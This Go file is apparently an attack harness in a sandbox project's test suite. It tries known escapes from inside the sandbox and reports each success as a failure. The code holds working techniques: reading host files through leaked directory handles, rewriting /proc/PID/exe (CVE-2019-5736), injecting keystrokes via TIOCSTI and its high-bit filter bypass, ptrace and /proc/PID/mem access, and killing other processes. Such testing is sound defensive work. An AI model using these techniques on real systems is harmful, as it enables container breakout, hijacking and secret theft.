package attack

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// helper runs inside a sandbox as the attacker: it tries one kind of harm
// by every route it knows and prints what it managed. A line starting with
// "HARM " is an attack that worked; the tests fail on it (and check the
// harm itself from outside too).
func helper(action string, args []string) int {
	switch action {
	case "fds":
		helperFds()
	case "escape":
		helperEscape(args[0], args[1])
	case "exe":
		helperExe()
	case "reach":
		victimPid, _ := strconv.Atoi(args[0])
		helperReach(victimPid)
	case "envdump":
		for _, kv := range os.Environ() {
			fmt.Println("env", kv)
		}
		fmt.Println("done")
	case "look":
		// Is any process whose argv[0] is args[0] visible?
		for _, p := range pids() {
			b, _ := os.ReadFile("/proc/" + strconv.Itoa(p) + "/cmdline")
			if strings.HasPrefix(string(b), args[0]+"\x00") {
				fmt.Printf("HARM process %d visible: %q\n", p, b)
			}
		}
		fmt.Println("done")
	case "tty":
		helperTTY()
	case "undo":
		helperUndo(args)
	case "keyring-caller":
		helperKeyringCaller(args)
	case "keyring":
		helperKeyring()
	case "mount":
		// Mount a tmpfs on args[0] (a bind of a host directory), leave
		// a file in it, and hold it until stdin ends.
		if err := unix.Mount("attack", args[0], "tmpfs", 0, ""); err != nil {
			fmt.Println("mount failed:", err)
		} else {
			os.WriteFile(args[0]+"/planted", []byte("x"), 0o644)
			fmt.Println("mounted")
		}
		os.Stdout.Sync()
		bufio.NewReader(os.Stdin).ReadString('\n')
	case "ids":
		// Say who we are, and leave a file whose host owner tells.
		fmt.Printf("uid %d euid %d\n", os.Getuid(), os.Geteuid())
		if err := os.WriteFile(args[0], []byte("x"), 0o644); err != nil {
			fmt.Println("create:", err)
		}
	case "watch":
		// Say ready, wait for the host to mount, then look.
		fmt.Println("ready")
		os.Stdout.Sync()
		bufio.NewReader(os.Stdin).ReadString('\n')
		b, err := os.ReadFile(args[0] + "/secret")
		fmt.Printf("read %q %v\n", b, err)
		err = os.WriteFile(args[0]+"/from-inside", []byte("x"), 0o644)
		fmt.Printf("write %v\n", err)
	default:
		fmt.Fprintln(os.Stderr, "unknown helper action", action)
		return 2
	}
	return 0
}

// ownFds lists this process's fds, leaving out the one used to list them.
func ownFds() map[int]string {
	dfd, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return map[int]string{-1: err.Error()}
	}
	f := os.NewFile(uintptr(dfd), "fd")
	names, _ := f.Readdirnames(-1)
	out := map[int]string{}
	for _, n := range names {
		fd, _ := strconv.Atoi(n)
		if fd == dfd {
			continue
		}
		// An fd that came through exec cannot be close-on-exec: one
		// that is was opened here, after exec (Go's runtime reads the
		// cgroup's CPU quota, for one).
		if fl, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && fl&unix.FD_CLOEXEC != 0 {
			continue
		}
		l, _ := os.Readlink("/proc/self/fd/" + n)
		out[fd] = l
	}
	f.Close()
	return out
}

func helperFds() {
	for fd, l := range ownFds() {
		fmt.Printf("fd %d %s\n", fd, l)
	}
}

func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if p, err := strconv.Atoi(e.Name()); err == nil && p != os.Getpid() {
			out = append(out, p)
		}
	}
	return out
}

// reachesSecret says whether the directory fd dfd, or one of its
// ancestors (walking "..", which is how a chroot is left through a handle
// from outside it), leads to the host file rel (relative to the host's /)
// holding secret.
func reachesSecret(dfd int, rel, secret string) bool {
	cur, err := unix.Openat(dfd, ".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	for i := 0; i < 64; i++ {
		if fd, err := unix.Openat(cur, rel, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			b := make([]byte, 256)
			n, _ := unix.Read(fd, b)
			unix.Close(fd)
			if strings.TrimSpace(string(b[:n])) == secret {
				unix.Close(cur)
				return true
			}
		}
		up, err := unix.Openat(cur, "..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		unix.Close(cur)
		if err != nil {
			return false
		}
		cur = up
	}
	unix.Close(cur)
	return false
}

// helperEscape tries to read the host file secretPath (outside the
// sandbox's root) through every directory handle it can find: its own
// fds, /proc/PID/root, /proc/PID/cwd and /proc/PID/fd/* of every process
// it sees, and the paths themselves.
func helperEscape(secretPath, secret string) {
	rel := strings.TrimPrefix(secretPath, "/")
	try := func(how, p string) {
		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		defer unix.Close(fd)
		if reachesSecret(fd, rel, secret) {
			fmt.Println("HARM read the host secret through", how, p)
		}
	}
	if b, err := os.ReadFile(secretPath); err == nil && strings.TrimSpace(string(b)) == secret {
		fmt.Println("HARM the secret is at its host path inside")
	}
	for fd := range ownFds() {
		try("own fd", "/proc/self/fd/"+strconv.Itoa(fd))
		if reachesSecret(fd, rel, secret) {
			fmt.Println("HARM read the host secret through own fd", fd)
		}
	}
	for _, p := range append(pids(), os.Getpid()) {
		base := "/proc/" + strconv.Itoa(p)
		try("root of", base+"/root")
		try("cwd of", base+"/cwd")
		if b, err := os.ReadFile(base + "/root/" + rel); err == nil && strings.TrimSpace(string(b)) == secret {
			fmt.Println("HARM read the host secret through", base+"/root")
		}
		ents, _ := os.ReadDir(base + "/fd")
		for _, e := range ents {
			try("fd of", base+"/fd/"+e.Name())
		}
	}
	fmt.Println("done")
}

// helperExe tries to open every visible process's executable for writing
// (CVE-2019-5736): directly, and by reopening an O_PATH handle.
func helperExe() {
	for _, p := range append(pids(), os.Getpid()) {
		exe := "/proc/" + strconv.Itoa(p) + "/exe"
		for _, fl := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_APPEND} {
			if fd, err := unix.Open(exe, fl|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(fd)
				if p != os.Getpid() {
					fmt.Println("HARM opened for writing", exe)
				}
			}
		}
		if pfd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			if fd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(pfd), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(fd)
				if p != os.Getpid() {
					fmt.Println("HARM reopened for writing", exe)
				}
			}
			unix.Close(pfd)
		}
	}
	// The command's own binary: a command that rewrites it must not reach
	// nook's (it is this file, not nook).
	fmt.Println("done")
}

// helperReach tries to trace, read, stop and kill every other process it
// sees (nook's pid 1 among them) and a host process by its host pid.
func helperReach(victimPid int) {
	fmt.Println("caps1", capField("/proc/1/status", "CapPrm"))
	fmt.Println("capsself", capField("/proc/self/status", "CapEff"))
	for _, p := range pids() {
		ps := strconv.Itoa(p)
		if err := unix.PtraceAttach(p); err == nil {
			fmt.Println("HARM ptrace attached to", p)
			var ws unix.WaitStatus
			unix.Wait4(p, &ws, unix.WALL, nil)
			unix.PtraceDetach(p)
		}
		if _, err := os.ReadFile("/proc/" + ps + "/environ"); err == nil {
			fmt.Println("HARM read /proc/" + ps + "/environ")
		}
		if f, err := os.Open("/proc/" + ps + "/mem"); err == nil {
			f.Close()
			fmt.Println("HARM opened /proc/" + ps + "/mem")
		}
		if f, err := os.OpenFile("/proc/"+ps+"/mem", os.O_WRONLY, 0); err == nil {
			f.Close()
			fmt.Println("HARM opened /proc/" + ps + "/mem for writing")
		}
		// pid 1 ignores signals it has no handler for when they come
		// from inside its namespace; STOP and KILL are the ones that
		// would hurt.
		unix.Kill(p, syscall.SIGSTOP)
		unix.Kill(p, syscall.SIGKILL)
	}
	if victimPid > 0 {
		unix.Kill(victimPid, syscall.SIGKILL)
		unix.Kill(victimPid, syscall.SIGSTOP)
	}
	time.Sleep(100 * time.Millisecond)
	// pid 1 must still be there and running.
	if b, err := os.ReadFile("/proc/1/stat"); err == nil {
		f := strings.Fields(string(b))
		if len(f) > 2 && (f[2] == "T" || f[2] == "t" || f[2] == "Z") {
			fmt.Println("HARM pid 1 is in state", f[2])
		}
	}
	fmt.Println("done")
}

// helperTTY pushes input into every terminal it holds (CVE-2017-5226) and
// tries the console ioctl; the test reads the terminal from outside.
func helperTTY() {
	cands := map[string]int{}
	for fd := range ownFds() {
		cands["fd "+strconv.Itoa(fd)] = fd
	}
	for _, p := range []string{"/dev/tty", "/dev/console", "/dev/tty0"} {
		if fd, err := unix.Open(p, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err == nil {
			cands[p] = fd
		}
	}
	for name, fd := range cands {
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			continue
		}
		fmt.Println("terminal", name)
		injected := 0
		for _, c := range []byte("INJECTED\n") {
			b := c
			if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); e == 0 {
				injected++
			}
		}
		if injected > 0 {
			fmt.Println("HARM TIOCSTI through", name)
		}
		// The kernel takes ioctl's request as 32 bits; a filter that
		// compares all 64 is passed by setting the high ones
		// (CVE-2019-10063).
		highBits := uint64(1) << 32 // (dropped on 32-bit, where it cannot be passed)
		b := byte('\n')
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(uint64(unix.TIOCSTI)|highBits), uintptr(unsafe.Pointer(&b))); e == 0 {
			fmt.Println("HARM TIOCSTI with high request bits through", name)
		}
		// TIOCLINUX subcode 3 (TIOCL_SETSEL ... here 6: read the
		// selection) and 2 (paste): the latter is CVE-2023-1523's
		// sibling of TIOCSTI.
		for _, sub := range []byte{2, 3, 6} {
			b := []byte{sub, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
			if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCLINUX, uintptr(unsafe.Pointer(&b[0]))); e == 0 {
				fmt.Println("HARM TIOCLINUX", sub, "through", name)
			} else if e != unix.EPERM {
				fmt.Println("tioclinux", sub, name, e)
			}
		}
	}
	fmt.Println("done")
}

func capField(status, key string) string {
	b, _ := os.ReadFile(status)
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, key+":"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "?"
}
